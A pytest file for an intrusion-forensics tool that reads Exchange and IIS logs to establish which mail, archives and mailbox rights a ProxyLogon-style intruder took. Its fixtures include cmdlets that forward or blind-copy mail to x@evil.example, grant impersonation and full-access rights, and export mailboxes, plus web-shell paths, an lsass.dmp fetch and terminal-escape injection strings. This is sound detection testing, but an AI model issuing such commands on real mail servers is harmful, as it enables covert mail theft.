"""What was taken, who took part, and volumes: the second reading (ADR 13)."""
import evtx_writer
import pytest
from conftest import (ATTACKER, VISITOR, assert_same, exchange, exchange_row, generate, guid,
                      honest_proxy, hunt, hunt_text, iis, page_answered, proxylogon, w3c_row)

PROXY_COLUMNS = ("DateTime,RequestId,Protocol,UrlHost,UrlStem,AuthenticatedUser,AnchorMailbox,"
                 "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,Method,"
                 "RoutingHint,BackEndCookie,UrlQuery,GenericInfo,GenericErrors,ResponseBytes")
EWS_COLUMNS = ("DateTime,RequestId,AuthenticatedUser,UserAgent,ClientIpAddress,ServerHostName,"
               "SoapAction,HttpStatus,RequestSize,ResponseSize,ImpersonatedUser,CorrelationGuid,"
               "GenericInfo")
OTHER = "198.51.100.77"


def ews(time, action="GetItem", size=1000, status="200", **cells):
    values = {"RequestId": guid(7), "AuthenticatedUser": "CORP\\ann", "UserAgent": "x",
              "ClientIpAddress": ATTACKER, "SoapAction": action, "HttpStatus": status,
              "RequestSize": "10", "ResponseSize": str(size), **cells}
    return exchange_row("ews", time, columns=EWS_COLUMNS, **values)


def write_ews(folder, rows):
    return exchange(folder / "Ews_1.LOG", "ews", rows, columns=EWS_COLUMNS)


def break_in(folder, minute=0):
    """HttpProxy: identity, session, write, at 07:00."""
    return exchange(folder / "HttpProxy_1.LOG", "httpproxy", [
        honest_proxy(),
        *(proxylogon(step, f"2021-03-03T07:{minute:02}:{second:02}.000Z")
          for second, step in enumerate(("identity", "session", "write")))])


def command(time, cmdlet, parameters, user="CORP\\boss", result="Success"):
    return exchange_row("cmdlet", time, AuthenticatedUser=user, Cmdlet=cmdlet,
                        Parameters=parameters, ExecutionResult=result,
                        ProcessName="w3wp#MSExchangePowerShellAppPool")


def taken(done, state=None, kind=None):
    return [r for r in done.kind("taken") if state in (None, r["hauberk.state"])
            and kind in (None, r["hauberk.kind"])]


# ---- a whole case ----

@pytest.fixture(name="theft", scope="module")
def fixture_theft(tmp_path_factory):
    tree = tmp_path_factory.mktemp("theft")
    return tree, generate(tree / "t", "mail-theft", size="6M", seed=11)["ex01"]


def test_mail_that_was_stolen(theft):
    tree, facts = theft
    done = hunt(tree)
    mail, = taken(done, "proven", "mail")
    assert mail["source.ip"] == facts["attacker_ip"]
    assert mail["hauberk.mailbox"] == facts["stolen_mailbox"].split("@")[0]
    assert mail["hauberk.bytes_lower"] == int(facts["stolen_bytes"])
    # HttpProxy also has the request that learned the victim's identity
    assert 0 <= mail["hauberk.bytes_upper"] - int(facts["stolen_bytes"]) < 30000
    assert mail["hauberk.requests"] == int(facts["stolen_requests"])
    assert mail["hauberk.last"] == facts["stolen_until"]
    assert set(mail["hauberk.operations"]) == {"FindItem", "GetItem", "ExportItems",
                                               "GetAttachment"}
    with open(mail["log.file.path"], "rb") as log:
        log.seek(mail["hauberk.offset"])
        assert facts["attacker_ip"].encode() in log.readline()


def test_archive_and_rule(theft):
    tree, facts = theft
    done = hunt(tree)
    archive, = taken(done, kind="archive")
    assert archive["hauberk.state"] == "proven"  # the page's second user got it
    assert archive["url.path"] == f"/aspnet_client/{facts['archive_name']}.zip"
    assert archive["source.ip"] == facts["page_user_ip"].split(",")[1]
    assert archive["hauberk.first"][:19] == facts["archive_taken_at"][:19]
    assert "hauberk.bytes_upper" not in archive  # IIS does not log sc-bytes there
    forward, = taken(done, kind="inbox-rule")
    assert forward["hauberk.state"] == "proven"
    assert forward["hauberk.mailbox"] == facts["stolen_mailbox"]


def test_honest_work_is_not_proven(theft):
    """The administrator of the generator exports mailboxes of those who left."""
    exports = taken(hunt(theft[0]), kind="export")
    assert {r["hauberk.state"] for r in exports} <= {"possible"}
    assert {r["hauberk.because"] for r in exports} <= {"later"}


def test_volume_of_the_thief(theft):
    tree, facts = theft
    volumes = hunt(tree).kind("volume")
    assert volumes[0]["source.ip"] == facts["attacker_ip"]
    assert volumes[0]["hauberk.intruder"] is True
    assert volumes[0]["hauberk.bytes"] >= int(facts["stolen_bytes"])
    assert volumes[0]["hauberk.bytes"] > 100 * volumes[0]["hauberk.median"]


def test_verdict_names_the_harm(theft):
    tree, facts = theft
    verdict, = hunt(tree).kind("verdict")
    assert verdict["hauberk.harm.mail"] == "proven"
    assert verdict["hauberk.harm_reason.mail"] == "shown"
    assert verdict["hauberk.harm_proof.mail.path"]
    assert verdict["hauberk.harm.credentials"] == "not observable"
    assert verdict["hauberk.harm_logs.credentials"] == ["sysmon"]
    words = hunt_text(tree).words
    assert f"Mailbox {facts['stolen_mailbox'].split('@')[0]}, by {facts['attacker_ip']}" in words
    assert "WHAT WAS TAKEN" in words and "WHO TOOK PART" in words and "VOLUMES" in words


def test_workers_and_parts_change_nothing(theft):
    tree, _ = theft
    whole = hunt("-j", "1", tree)
    assert_same(hunt("-j", "4", "--part-size", "65536", tree), whole)
    assert [r for r in hunt("-j", "3", tree).records if r["record"] in ("taken", "actor")] == \
        [r for r in whole.records if r["record"] in ("taken", "actor")]


# ---- mail ----

def test_row_of_the_back_end_is_tied_by_its_request(tmp_path):
    """The back end logs the server's own address; CorrelationGuid names the request."""
    break_in(tmp_path)
    request = guid(sum(map(ord, "2021-03-03T07:00:02.000Z")))
    write_ews(tmp_path, [ews("2021-03-03T07:00:02.500Z", ClientIpAddress="192.0.2.10",
                             CorrelationGuid=request, size=4321),
                         ews("2021-03-03T07:00:03.500Z", ClientIpAddress="192.0.2.10",
                             CorrelationGuid=guid(99), size=50)])
    mail, = taken(hunt(tmp_path), "proven", "mail")
    assert mail["source.ip"] == ATTACKER and mail["hauberk.bytes_lower"] == 4321


def test_bounds(tmp_path):
    break_in(tmp_path)
    write_ews(tmp_path, [ews("2021-03-03T07:10:00.000Z", "GetItem", 700),
                         ews("2021-03-03T07:11:00.000Z", "GetFolder", 30),
                         ews("2021-03-03T07:12:00.000Z", "GetItem", 9000, status="401")])
    mail, = taken(hunt(tmp_path), "proven", "mail")
    assert (mail["hauberk.bytes_lower"], mail["hauberk.bytes_upper"]) == (700, 730)
    assert mail["hauberk.requests"] == 2  # the refused one is none


def test_service_without_operation_is_possible(tmp_path):
    rows = [exchange_row("httpproxy", f"2021-03-03T07:0{i}:00.000Z", columns=PROXY_COLUMNS,
                         RequestId=guid(i), Protocol="Ews", UrlStem="/EWS/Exchange.asmx",
                         Method="POST", HttpStatus="200", ClientIpAddress=ATTACKER,
                         AuthenticatedUser="CORP\\ann", ResponseBytes="5000")
            for i in range(3, 5)]
    break_in(tmp_path)
    exchange(tmp_path / "HttpProxy_2.LOG", "httpproxy", rows, columns=PROXY_COLUMNS)
    done = hunt(tmp_path)
    mail, = [r for r in taken(done, "possible", "mail") if r.get("hauberk.mailbox") == "ann"]
    assert mail["hauberk.because"] == "no-operation"
    assert (mail["hauberk.bytes_lower"], mail["hauberk.bytes_upper"]) == (0, 10000)
    missing = [r["hauberk.sources"] for r in taken(done, "not observable", "mail")]
    assert ["ews"] in missing and ["mapihttp"] in missing


def test_address_that_others_use_proves_nothing(tmp_path):
    """Everybody behind one load balancer has one address."""
    break_in(tmp_path)
    write_ews(tmp_path, [ews("2021-03-03T06:00:00.000Z", AuthenticatedUser="CORP\\eve"),
                         ews("2021-03-03T07:10:00.000Z")])
    mail, = [r for r in taken(hunt(tmp_path), kind="mail") if r.get("hauberk.mailbox")]
    assert (mail["hauberk.state"], mail["hauberk.because"]) == ("possible", "shared-address")


def test_others_mail_is_not_told(tmp_path):
    break_in(tmp_path)
    write_ews(tmp_path, [ews("2021-03-03T07:10:00.000Z", ClientIpAddress=VISITOR)])
    assert not [r for r in taken(hunt(tmp_path), kind="mail") if r.get("hauberk.mailbox")]


# ---- commands ----

COMMANDS = [
    ("New-MailboxExportRequest", '-Mailbox "ann" -FilePath "\\\\fs\\x.pst"', "export"),
    ("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "eve"',
     "export-right"),
    ("New-ManagementRoleAssignment", '-Role "ApplicationImpersonation" -User "eve"',
     "impersonation"),
    ("Add-MailboxPermission", '-Identity "ann" -User "eve" -AccessRights "FullAccess"',
     "delegate"),
    ("Set-Mailbox", '-Identity "ann" -ForwardingSmtpAddress "x@evil.example"', "forwarding"),
    ("New-InboxRule", '-Mailbox "ann" -ForwardTo "x@evil.example"', "inbox-rule"),
    ("New-TransportRule", '-Name "x" -BlindCopyTo "x@evil.example"', "transport-rule"),
    ("Install-TransportAgent", '-Name "x"', "transport-agent"),
]


@pytest.mark.parametrize("cmdlet, parameters, kind", COMMANDS)
def test_command_beside_the_break_in(tmp_path, cmdlet, parameters, kind):
    break_in(tmp_path)
    exchange(tmp_path / "Cmdlet_1.LOG", "cmdlet", [
        command("2021-03-03T07:01:00.000Z", cmdlet, parameters),
        command("2021-03-03T07:01:30.000Z", cmdlet, parameters, result="Error"),
        command("2021-03-03T09:00:00.000Z", cmdlet, parameters)])
    done = hunt(tmp_path)
    assert [(r["hauberk.state"], r["hauberk.because"]) for r in taken(done, kind=kind)] == [
        ("proven", "shown"), ("possible", "later")]
    assert {r["user.name"] for r in taken(done, kind=kind)} == {"CORP\\boss"}


@pytest.mark.parametrize("cmdlet, parameters", [
    ("Set-Mailbox", '-Identity "ann" -ProhibitSendQuota "2GB"'),
    ("New-ManagementRoleAssignment", '-Role "Mail Recipients" -User "eve"'),
    ("Get-MailboxPermission", '-Identity "ann" -Filter "FullAccess"'),
    ("New-InboxRule", '-Mailbox "ann" -MarkAsRead "true"')])
def test_command_that_takes_nothing(tmp_path, cmdlet, parameters):
    break_in(tmp_path)
    exchange(tmp_path / "Cmdlet_1.LOG", "cmdlet",
             [command("2021-03-03T07:01:00.000Z", cmdlet, parameters)])
    assert not [r for r in taken(hunt(tmp_path)) if "user.name" in r]


@pytest.mark.parametrize("cmdlet, parameters, kind", COMMANDS)
def test_administrator_of_a_sound_host(tmp_path, cmdlet, parameters, kind):
    """Honest use: no second reading, and no line."""
    exchange(tmp_path / "HttpProxy_1.LOG", "httpproxy", [honest_proxy()])
    exchange(tmp_path / "Cmdlet_1.LOG", "cmdlet",
             [command("2021-03-03T07:01:00.000Z", cmdlet, parameters)])
    assert not hunt(tmp_path).kind("taken"), kind


def test_command_of_the_event_log(tmp_path):
    break_in(tmp_path)
    evtx_writer.write(tmp_path / "Management.evtx", [evtx_writer.event(
        "MSExchange Management", 1, [
            (None, "Set-Mailbox"),
            (None, '-Identity "ann" -ForwardingAddress "x@evil.example"')],
        provider="MSExchange CmdletLogs", time="2021-03-03T07:01:00.0000000Z", computer="EX01")])
    line, = taken(hunt(tmp_path), "proven", "forwarding")
    assert line["hauberk.mailbox"] == "ann"
    assert line["hauberk.sources"] == ["msexchange-management"]


# ---- archives ----

def test_archives(tmp_path):
    def get(time, page, source=ATTACKER, status="200"):
        return w3c_row(time, cs_uri_stem=page, c_ip=source, sc_status=status)
    iis(tmp_path / "u_ex210303.log", [
        get("2021-03-03T06:00:00", "/aspnet_client/old.zip", OTHER),
        page_answered(),
        get("2021-03-03T07:10:00", "/aspnet_client/a.zip"),
        get("2021-03-03T07:11:00", "/aspnet_client/b.zip", status="404"),
        get("2021-03-03T07:12:00", "/owa/auth/lsass.dmp", OTHER)])
    assert [(r["url.path"], r["hauberk.state"], r["hauberk.because"])
            for r in taken(hunt(tmp_path), kind="archive") if "url.path" in r] == [
        ("/aspnet_client/a.zip", "proven", "shown"),
        ("/owa/auth/lsass.dmp", "possible", "other-source")]


# ---- actors ----

def actors(done):
    return {r["source.ip"]: (r["hauberk.actor"], r["hauberk.role"], r["hauberk.tie"])
            for r in done.kind("actor")}


def test_roles(tmp_path):
    def ask(minute, page, source, method="GET", status="200"):
        return page_answered(f"2021-03-03T08:{minute:02}:00", page, c_ip=source,
                             cs_method=method, sc_status=status)
    break_in(tmp_path)
    iis(tmp_path / "u_ex210303.log", [
        ask(1, "/owa/auth/errorEE.aspx", "203.0.113.1"),
        ask(2, "/owa/auth/errorEE.aspx", "203.0.113.2", "POST"),
        *(ask(10 + i, f"/owa/auth/{name}.aspx", "203.0.113.3", status="302")
          for i, name in enumerate(("shell", "getpp", "err0r"))),
        ask(14, "/owa/auth/errorEE.aspx", "203.0.113.3"),
        ask(20, "/owa/auth/q7x2kw9z.aspx", "203.0.113.4", "POST"),
        ask(21, "/owa/auth/q7x2kw9z.aspx", "203.0.113.5", "POST")])
    found = actors(hunt(tmp_path))
    assert {k: v[1] for k, v in found.items()} == {
        ATTACKER: "planted", "203.0.113.1": "checked", "203.0.113.2": "used",
        "203.0.113.3": "seeker", "203.0.113.4": "used", "203.0.113.5": "used"}
    assert found["203.0.113.4"][0] == found["203.0.113.5"][0]  # nobody guesses that name
    assert found["203.0.113.4"][2] == "page"
    assert len({v[0] for v in found.values()}) == 5  # a public name ties nobody


# ---- volumes ----

def crowd(folder, thief_bytes, sources=30):
    rows = [exchange_row("httpproxy", f"2021-03-03T06:00:{i:02}.000Z", columns=PROXY_COLUMNS,
                         RequestId=guid(i), UrlStem="/owa/", HttpStatus="200",
                         ClientIpAddress=f"198.51.100.{i + 1}", AuthenticatedUser=f"CORP\\u{i}",
                         ResponseBytes=str(20000 + 1000 * i)) for i in range(sources)]
    rows.append(exchange_row("httpproxy", "2021-03-03T06:10:00.000Z", columns=PROXY_COLUMNS,
                             RequestId=guid(99), UrlStem="/ews/exchange.asmx", HttpStatus="200",
                             ClientIpAddress=OTHER, AuthenticatedUser="CORP\\ann",
                             ResponseBytes=str(thief_bytes)))
    return exchange(folder / "HttpProxy_1.LOG", "httpproxy", rows, columns=PROXY_COLUMNS)


def test_volumes_of_a_sound_host_only_when_asked(tmp_path):
    crowd(tmp_path, 900_000_000)
    assert not hunt(tmp_path).kind("volume")
    done = hunt("--volumes", tmp_path)
    volume, = done.kind("volume")
    assert volume["source.ip"] == OTHER and volume["hauberk.bytes"] == 900_000_000
    assert volume["hauberk.sources_compared"] == 31 and not volume["hauberk.intruder"]
    assert done.grades == {"ex01": "N"} and done.status == 0


def test_no_volume_stands_out(tmp_path):
    crowd(tmp_path, 30_000)
    assert not hunt("--volumes", tmp_path).kind("volume")
    assert "No source stands out." in hunt_text("--volumes", tmp_path).words


def test_too_few_sources_for_a_habit(tmp_path):
    crowd(tmp_path, 900_000_000, sources=5)
    assert not hunt("--volumes", tmp_path).kind("volume")
    assert "it takes 20 to speak of a habit" in hunt_text("--volumes", tmp_path).words


# ---- hostile text ----

def test_text_of_the_evidence_shows_as_text(tmp_path):
    break_in(tmp_path)
    write_ews(tmp_path, [ews("2021-03-03T07:10:00.000Z", "Get\x1b[31mItem", 5,
                             ImpersonatedUser="\x1b]0;x\x07\u202e" + "m" * 5000)])
    done = hunt_text(tmp_path)
    assert "\x1b" not in done.text and "\x07" not in done.text and "\u202e" not in done.text


# ---- the real incident ----

def test_real_incident(corpora):
    done = hunt(corpora / "real-incident")
    found = actors(done)
    assert {k: v[1] for k, v in found.items()} == {
        "130.255.189.21": "planted", "139.162.202.236": "checked", "67.205.176.9": "seeker"}
    assert len({v[0] for v in found.values()}) == 3
    tried = {r["source.ip"]: r["hauberk.names_tried"] for r in done.kind("actor")}
    assert tried["67.205.176.9"] == 9  # and the page that was there, which makes ten
    assert not taken(done, "proven")
    identity, = taken(done, "possible")
    assert identity["hauberk.because"] == "identity"
    words = hunt_text(corpora / "real-incident").words
    for part in ("The intruder came in 2 runs", "write confirmed at 06:59:20Z",
                 "traces cleared at 06:59:23Z", "existence checks only, no command seen",
                 "was gone by 2021-03-08 20:37:27Z",
                 "67.205.176.9: looked for pages that others plant"):
        assert part in words
